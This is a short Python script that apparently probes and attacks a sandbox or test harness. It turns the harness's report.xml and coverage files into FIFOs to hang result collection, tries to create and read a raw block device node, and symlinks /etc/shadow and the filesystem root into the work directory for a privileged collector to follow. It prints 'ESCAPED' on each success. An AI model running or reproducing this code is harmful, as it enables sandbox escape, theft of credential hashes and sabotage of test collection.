import ctypes, json, os, resource, signal, socket, subprocess, sys, threading, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

for n in ("report.xml", "coverage.json", ".coverage"): t(lambda: os.mkfifo(n))
t(lambda: socket.socket(socket.AF_UNIX).bind("sock")); t(lambda: (os.mknod("disk", 0o60600, os.makedev(254, 0)), open("disk", "rb").read(1), esc("disk")))
os.symlink("/etc/shadow", "out"); os.symlink("/", "root")
